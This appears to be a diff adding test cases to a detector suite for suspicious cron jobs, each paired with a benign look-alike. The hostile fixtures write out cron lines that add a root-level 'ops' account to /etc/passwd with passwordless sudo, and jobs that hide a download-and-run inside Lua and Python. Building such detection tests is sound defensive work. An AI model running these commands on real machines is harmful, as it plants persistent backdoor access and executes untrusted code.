@@ -105,6 +105,39 @@ def _(room: Room) -> Planted:
     return {"path": room.write("/etc/crontab", _DEBIAN_CRONTAB)}
 
 
+@case(9, cron_download_and_run="path")
+def job_that_grants_access(room: Room) -> Planted:
+    """a job that keeps an account with root's number, and one that is root without a password, in their files."""
+    account = "grep -q ^ops: /etc/passwd || echo 'ops:x:0:0::/root:/bin/bash' >> /etc/passwd"
+    right = "echo 'ops ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/ops"
+    return system_cron(room, "accounts", f"*/30 * * * * root {account}; {right}")
+
+
+@job_that_grants_access.twin
+def _(room: Room) -> Planted:
+    """a job that reports who may be root, and one that copies a key which its server keeps."""
+    report = "awk -F: '$3 == 0' /etc/passwd >> /var/log/roots; grep -r NOPASSWD /etc/sudoers.d >> /var/log/roots"
+    return system_cron(room, "accounts", f"@daily root {report}\n@hourly backup cat /srv/keys/backup.pub > .ssh/authorized_keys")
+
+
+@case(9, cron_download_and_run="path")
+def job_in_another_language(room: Room) -> Planted:
+    """jobs whose Lua and Python, given as an argument and as a here-document, have a shell run a download."""
+    lua = f"lua -e 'os.execute(\"{_DOWNLOAD}\")'"
+    script = room.write(
+        "/usr/local/sbin/refresh", f"#!/bin/sh\npython3 - <<EOF\nimport os\nos.system('{_DOWNLOAD}')\nEOF\n", 0o755
+    )
+    return system_cron(room, "refresh", f"*/30 * * * * root {lua}\n*/40 * * * * root {script}")
+
+
+@job_in_another_language.twin
+def _(room: Room) -> Planted:
+    """a job whose Perl waits and whose Python reads a file."""
+    wait = "perl -e 'sleep int(rand(3600))'"
+    count = "python3 -c 'import json; print(len(json.load(open(\"/srv/list.json\"))))'"
+    return system_cron(room, "refresh", f"5 * * * * root {wait} && {count}")
+
+
 @case(9, cron_temporary_or_hidden_program="path")
 def job_at_boot(room: Room) -> Planted:
     """an @reboot job with a hidden program below /usr."""
